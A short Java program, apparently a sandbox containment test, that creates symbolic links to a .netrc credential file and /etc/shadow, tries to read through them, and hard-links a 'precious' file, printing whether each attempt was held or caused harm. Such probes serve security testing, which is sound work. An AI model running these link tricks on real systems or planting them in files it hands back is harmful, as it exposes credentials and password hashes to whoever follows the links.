// Tries to plant links for whoever collects its files, from Java. Safe: 0, failed or crashed.
import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

class Attack {
    public static void main(String[] args) throws Exception {
        String room = System.getenv("ROOM");
        for (String from : List.of(room + "/home/.netrc", "/etc/shadow", room))
            try {
                Files.deleteIfExists(Path.of("a"));
                Files.createSymbolicLink(Path.of("a"), Path.of(from));
                Files.readString(Path.of("a"));
                System.out.println("harm: read");
            } catch (IOException error) {
                System.out.println("held");
            }
        Files.createLink(Path.of("b"), Path.of(room, "world/precious"));
        System.out.println("harm: linked");
    }
}
